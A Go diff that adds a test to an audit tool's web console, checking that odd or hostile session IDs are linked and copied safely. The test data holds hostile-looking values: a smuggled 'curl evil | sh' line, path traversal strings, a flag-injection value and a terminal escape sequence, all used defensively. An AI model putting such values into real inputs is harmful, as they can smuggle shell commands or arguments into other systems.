@@ -1,13 +1,16 @@
 package console_test
 
 import (
+	"html"
 	"net/http"
 	"net/url"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/tripod-audit/tripod/internal/audit"
+	"github.com/tripod-audit/tripod/internal/console"
 	"github.com/tripod-audit/tripod/internal/console/consoletest"
 	"github.com/tripod-audit/tripod/internal/intake"
 )
@@ -81,6 +84,46 @@ func TestSessionThatNobodyKnows(t *testing.T) {
 		}
 		consoletest.CheckInert(t, path, a.Body)
 	}
+}
+
+// TestOddSessionIDs follows the link of a record to its session, whatever a client chose to call it.
+func TestOddSessionIDs(t *testing.T) {
+	t.Parallel()
+	b := consoletest.New(t, consoletest.Options{})
+	ids := []string{".", "..", "...", "a/../b", "--data=/tmp/evil", "x\ncurl evil | sh\n", "\x1b[200~x", `a\b`, "%2e%2e", "a?b#c", "a b"}
+	for i, id := range ids {
+		r := &audit.Record{Source: audit.SourceOTelLog, Surface: audit.SurfaceClaudeCode, Activity: audit.ActivityHookRun, Type: "odd",
+			Occurred: time.Now(), Keys: audit.Keys{Session: id, Prompt: id}, Container: "session/" + itoa(i)}
+		b.Submit("fleet", intake.Draft{Record: r, Form: []byte("odd " + itoa(i))})
+	}
+	b.CatchUp()
+	b.SignIn()
+	for i, id := range ids {
+		_, rest, _ := strings.Cut(b.Get("/record/"+itoa(i+1)).Body, `href="/session`)
+		link, _, _ := strings.Cut(rest, `"`)
+		a := b.Get("/session" + html.UnescapeString(link))
+		if a.Status != http.StatusOK {
+			t.Errorf("%q: %d at /session%s", id, a.Status, link)
+		}
+		if opened := b.Own(console.TypeOpen); len(opened) == 0 || attr(opened[len(opened)-1], "session.id") != id {
+			t.Errorf("%q is on record by another id", id)
+		}
+		for _, copied := range strings.Split(a.Body, `data-copy="`)[1:] {
+			copied, _, _ = strings.Cut(copied, `"`)
+			copied = html.UnescapeString(copied)
+			if strings.Contains(copied, "curl evil") || strings.ContainsFunc(copied, unicode.IsControl) {
+				t.Errorf("%q: copying gives %q", id, copied)
+			}
+			if strings.HasPrefix(id, "-") && strings.HasPrefix(copied, "tripod ") && !strings.HasSuffix(copied, " -- --data=/tmp/evil") {
+				t.Errorf("%q: the id is read as a flag of %q", id, copied)
+			}
+		}
+	}
+}
+
+func attr(r *audit.Record, name string) string {
+	v, _ := r.Attributes.Get(name)
+	return v.Str()
 }
 
 func TestSessionIsNotShownUnrecorded(t *testing.T) {
